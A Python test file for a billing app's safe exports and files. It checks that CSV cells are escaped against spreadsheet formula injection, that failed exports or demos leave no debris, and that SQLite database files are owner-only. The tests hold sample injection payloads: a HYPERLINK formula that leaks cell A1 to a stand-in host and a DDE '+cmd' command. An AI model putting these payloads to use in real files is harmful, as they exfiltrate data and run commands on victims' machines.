"""Safe files (issue 9, part 5): CSV cells that a spreadsheet would run as formulas are shown as
text, the numbers still sum; a failed export or demo leaves no file; the database, its WAL and
shared-memory files and the copies made before migrating are the owner's only."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from app.clock import ManualClock
from app.domain.packs import PackKind
from app.i18n import _
from app.services import packs, sessions
from app.services.context import Desk
from app.services.exports import safe_cell, write_ledger_csv, write_sessions_csv
from app.store.database import close_database, connect_database, open_database
from app.store.migrations import migrate
from app.store.models import Customer
from tests.services.b_fixtures import lisbon
from tests.small_disk import fill, small_disk
from tests.store.fixtures import on_postgres
from tests.ui.pdf_fixtures import company, silva
from ui.main import main

__all__ = ["company", "silva", "small_disk"]

MARCH = (lisbon(2025, 3, 1).date(), lisbon(2025, 3, 31).date())
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Clique")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"

sqlite_only = pytest.mark.skipif(on_postgres(), reason="SQLite files and their modes")
posix_only = pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        header, *rows = list(csv.reader(file, delimiter=";"))
    return [dict(zip(header, row, strict=True)) for row in rows]


def number(cell: str) -> Decimal:
    """A cell as a Portuguese spreadsheet reads a number: a decimal comma, nothing else."""
    assert not cell.startswith("'"), cell
    return Decimal(cell.replace(",", "."))


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (COMMAND, "'" + COMMAND),
        ("-2+3", "'-2+3"),
        (SUM, "'" + SUM),
        ("\tcalc", "'\tcalc"),
        ("\rcalc", "'\rcalc"),
        ("  =1+1", "'  =1+1"),
        ("-60", "-60"),  # numbers stay numbers
        ("-0,05", "-0,05"),
        ("1234,50", "1234,50"),
        ("Silva & Filhos", "Silva & Filhos"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell(cell: str, shown: str) -> None:
    assert safe_cell(cell) == shown


def test_hostile_text_is_neutralised_and_the_numbers_still_sum(
    desk: Desk, admin_desk: Desk, clock: ManualClock, silva: Customer, tmp_path: Path
) -> None:
    Customer.update(name=HYPERLINK).where(Customer.id == silva.id).execute()
    clock.set(lisbon(2025, 3, 3, 10))
    started = sessions.start_session(desk, customer_id=silva.id, note=COMMAND)
    clock.advance(timedelta(minutes=30))
    sessions.stop_session(desk, started.id, started.version)
    unit = packs.sell_pack(
        desk, customer_id=silva.id, kind=PackKind.UNIT, minutes=60, price=Decimal("40.00")
    ).pack.id
    (purchase,) = packs.ledger(pack_id=unit)
    packs.correct_entry(admin_desk, purchase.id, SUM)

    write_sessions_csv(tmp_path / "s.csv", *MARCH)
    (session,) = read(tmp_path / "s.csv")
    assert session[_("Customer")] == "'" + HYPERLINK
    assert session[_("Subject")] == "'" + COMMAND
    assert number(session[_("Real time (min)")]) == 30
    assert number(session[_("Billed inside (min)")]) == 30
    assert number(session[_("Hourly rate inside (€)")]) > 0

    write_ledger_csv(tmp_path / "l.csv", *MARCH)
    entries = read(tmp_path / "l.csv")
    assert {entry[_("Customer")] for entry in entries} == {"'" + HYPERLINK}
    assert entries[-1][_("Reason")] == "'" + SUM
    # The accountant sums the minutes: the correction's -60 is still a number.
    assert [number(entry[_("Minutes")]) for entry in entries][-2:] == [60, -60]
    assert sum(number(entry[_("Minutes")]) for entry in entries[-2:]) == 0


def test_a_full_disk_leaves_the_previous_export_untouched(
    silva: Customer, desk: Desk, clock: ManualClock, small_disk: Path
) -> None:
    clock.set(lisbon(2025, 3, 3, 10))
    for _n in range(40):
        started = sessions.start_session(desk, customer_id=silva.id, note="x" * 200)
        clock.advance(timedelta(minutes=30))
        sessions.stop_session(desk, started.id, started.version)
    target = small_disk / "sessoes.csv"
    target.write_text("the previous export")
    fill(small_disk, leave=4 * 1024)
    with pytest.raises(OSError):
        write_sessions_csv(target, *MARCH)
    assert target.read_text() == "the previous export"
    assert sorted(p.name for p in small_disk.iterdir()) == ["filler", "sessoes.csv"]


# --- the database files -----------------------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def usual_umask() -> Iterator[None]:
    """The usual umask, which makes new files readable by everyone (0644)."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


@sqlite_only
@posix_only
def test_a_new_database_its_wal_and_shm_are_the_owners_only(
    tmp_path: Path, usual_umask: None
) -> None:
    location = tmp_path / "balcao.sqlite"
    open_database(str(location), clock=ManualClock(datetime(2025, 3, 3, tzinfo=UTC)))
    try:
        names = sorted(p.name for p in tmp_path.iterdir())
        assert names == ["balcao.sqlite", "balcao.sqlite-shm", "balcao.sqlite-wal"]
        assert {name: mode(tmp_path / name) for name in names} == dict.fromkeys(names, 0o600)
    finally:
        close_database()


@sqlite_only
@posix_only
def test_the_copy_made_before_migrating_is_the_owners_only(
    tmp_path: Path, usual_umask: None
) -> None:
    location = tmp_path / "balcao.sqlite"
    old = connect_database(str(location))  # an old version made it 0644
    old.connect()
    migrate(old, clock=ManualClock(datetime(2025, 3, 3, tzinfo=UTC)), target=1)
    old.close()
    assert mode(location) == 0o644
    open_database(str(location), clock=ManualClock(datetime(2025, 3, 4, tzinfo=UTC)))
    close_database()
    (copy,) = tmp_path.glob("*.bak-v1-*")
    assert mode(copy) == 0o600


# --- the demo ---------------------------------------------------------------------------------


@sqlite_only
def test_a_demo_that_fails_half_way_leaves_no_database(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.demo import small

    def broken(location: str, now: datetime, progress: object) -> object:
        Customer.create(name="half a demo", created_at=now)
        raise RuntimeError("the demo broke")

    monkeypatch.setattr(small, "fill_small_demo", broken)
    with pytest.raises(RuntimeError):
        main(["demo", "--db", str(tmp_path / "demo.sqlite")])
    assert list(tmp_path.iterdir()) == []


@sqlite_only
def test_a_demo_on_a_full_disk_leaves_no_database(
    small_disk: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    try:
        code = main(["demo", "--db", str(small_disk / "demo.sqlite")])
    except Exception:  # how the error is told is issue 9 part 2's; the debris is ours
        code = 1
    assert code != 0
    assert list(small_disk.iterdir()) == []
    assert ".part" not in capsys.readouterr().err  # the file is named as the user named it


@sqlite_only
@posix_only
def test_a_demo_database_is_complete_and_the_owners_only(tmp_path: Path, usual_umask: None) -> None:
    assert main(["demo", "--db", str(tmp_path / "demo.sqlite")]) == 0
    assert [p.name for p in tmp_path.iterdir()] == ["demo.sqlite"]
    assert mode(tmp_path / "demo.sqlite") == 0o600
    open_database(str(tmp_path / "demo.sqlite"))
    try:
        assert Customer.select().count() > 0
    finally:
        close_database()
